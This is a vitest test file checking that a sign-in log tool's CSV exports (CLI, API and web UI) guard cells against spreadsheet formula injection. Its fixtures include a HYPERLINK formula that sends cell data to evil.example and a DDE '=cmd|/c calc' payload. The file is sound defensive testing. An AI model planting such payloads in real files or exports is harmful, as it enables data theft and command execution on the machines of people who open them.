// Spreadsheet safety, one test per CSV writer: `query --format csv`, `export` (CLI), GET /api/export
// and the web report's export (the URL the UI builds): no cell starts with = + - @ tab or CR,
// and our importer gives the original text back.
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../cli/run-cli.js';
import { record, setup } from '../http/helpers.js';
import { cellText } from '../../src/importers/tabular/cell-values.js';
import { isFormulaLike, spreadsheetSafe } from '../../src/core/export/spreadsheet-cell.js';
import { createSqliteStore } from '../../src/storage/sqlite/sqlite-store.js';
import type { SignIn } from '../../src/core/model/sign-in-schema.js';

/** The UI's own URL builder; loaded by path because it is type-checked with the browser's types (ui/tsconfig). */
const UI_FILTER_MODULE = '../../ui/src/state/odata-filter.js';
interface UiExportUrls {
  buildFilter(tab: 'interactive', f: { range: '7d' }, now: number): string;
  exportUrl(filter: string, format: 'csv'): string;
}

const dir = join(fileURLToPath(new URL('../../.tmp/', import.meta.url)), `spreadsheet-${process.pid}`);

/** Interactive sign-ins whose attacker-chosen text looks like formulas. */
const HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+81 90 1234', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=cmd|/c calc'];
const hostile: SignIn[] = HOSTILE.map((text, i) => ({
  ...record(i * 4), // interactive user sign-ins
  userDisplayName: text,
  userPrincipalName: `${text}@contoso.com`,
  appDisplayName: text,
  userAgent: text,
  location: { city: text, state: null, countryOrRegion: 'JP', geoCoordinates: {} },
}));

const cells = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relaxColumnCount: true }) as string[][];
const expectGuarded = (rows: string[][]) => {
  let guarded = 0;
  for (const row of rows) {
    for (const c of row) {
      expect(isFormulaLike(c), JSON.stringify(c)).toBe(false);
      if (c.startsWith("'")) guarded++;
    }
  }
  expect(guarded).toBeGreaterThanOrEqual(HOSTILE.length * 3);
};

/** Imports a portal-layout CSV with our CLI and returns the stored documents by id. */
const reimport = async (csvFile: string, name: string): Promise<Map<string, SignIn>> => {
  const db = join(dir, `${name}.db`);
  const r = await runCli(['--db', db, 'import', csvFile, '--no-progress', '--rejects', join(dir, `${name}-rejects.ndjson`)]);
  expect(r.code, r.stderr).toBe(0);
  const store = createSqliteStore({ file: db });
  const out = new Map<string, SignIn>();
  for await (const page of store.exportRows(undefined)) for (const s of page.items) out.set(s.id, s);
  await store.close();
  return out;
};
const expectOriginals = (back: Map<string, SignIn>) => {
  expect(back.size).toBe(hostile.length);
  for (const s of hostile) {
    const b = back.get(s.id);
    expect(b?.userDisplayName).toBe(s.userDisplayName);
    expect(b?.appDisplayName).toBe(s.appDisplayName);
    expect(b?.userAgent).toBe(s.userAgent);
    // Location is one "City, State, CC" cell whose parts are trimmed on import (portal layout): a
    // city with a comma or edge spaces cannot come back whole, formula guard or not.
    const city = s.location?.city ?? '';
    if (!city.includes(',')) expect(b?.location?.city).toBe(city.trim());
  }
};

let srcDb: string;
beforeAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  srcDb = join(dir, 'src.db');
  const file = join(dir, 'hostile.ndjson');
  writeFileSync(file, hostile.map((s) => JSON.stringify(s)).join('\n'));
  const r = await runCli(['--db', srcDb, 'import', file, '--no-progress']);
  expect(r.code, r.stderr).toBe(0);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('spreadsheet-safe CSV', () => {
  it('the guard itself: every dangerous first character, and nothing else', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(spreadsheetSafe(`${c}x`)).toBe(`'${c}x`);
    for (const t of ['x=1', ' =1', '', "'quoted", '1-2']) expect(spreadsheetSafe(t)).toBe(t);
    for (const t of HOSTILE) expect(cellText(spreadsheetSafe(t))).toBe(t);
  });

  it('CLI query --format csv', async () => {
    const r = await runCli(['--db', srcDb, 'query', '--format', 'csv', '--top', '100']);
    expect(r.code, r.stderr).toBe(0);
    const rows = cells(r.stdout).slice(1);
    expect(rows).toHaveLength(hostile.length);
    expectGuarded(rows);
    // Column 2 is the user (UPN) and 3 the application: the importer's cell rule restores them.
    const apps = rows.map((row) => cellText(row[2]));
    expect(apps.sort()).toEqual([...HOSTILE].sort());
  });

  it('CLI export (portal CSV) re-imports to the original values', async () => {
    const out = join(dir, 'cli-export');
    mkdirSync(out);
    const r = await runCli(['--db', srcDb, 'export', '--type', 'interactiveUser', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const [name] = readdirSync(out);
    const file = join(out, name as string);
    expectGuarded(cells(readFileSync(file, 'utf8')).slice(1));
    expectOriginals(await reimport(file, 'cli-back'));
  });

  it('GET /api/export?format=csv re-imports to the original values', async () => {
    const t = await setup(hostile);
    const res = await t.get('/api/export?format=csv');
    expect(res.statusCode).toBe(200);
    expectGuarded(cells(res.body).slice(1));
    const file = join(dir, 'InteractiveSignIns_api.csv');
    writeFileSync(file, res.body);
    expectOriginals(await reimport(file, 'api-back'));
    await t.app.close();
    await t.store.close();
  });

  it("the web report's export (the URL the UI builds) is guarded", async () => {
    const t = await setup(hostile);
    const ui = (await import(UI_FILTER_MODULE)) as UiExportUrls;
    const url = ui.exportUrl(ui.buildFilter('interactive', { range: '7d' }, Date.UTC(2024, 6, 2)), 'csv');
    expect(url).toMatch(/^api\/export\?format=csv&/);
    const res = await t.get(`/${url}`);
    expect(res.statusCode, res.body).toBe(200);
    const rows = cells(res.body).slice(1);
    expect(rows).toHaveLength(hostile.length);
    expectGuarded(rows);
    await t.app.close();
    await t.store.close();
  });
});
